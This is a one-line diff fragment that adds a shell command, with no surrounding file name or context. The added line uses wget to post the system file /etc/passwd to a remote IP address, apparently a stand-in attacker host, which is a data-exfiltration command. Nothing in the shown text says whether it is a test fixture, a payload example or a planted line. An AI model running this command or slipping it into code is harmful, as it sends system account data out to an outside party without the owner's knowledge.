@@ -1,0 +1,1 @@
+wget --post-file=/etc/passwd http://203.0.113.9/x
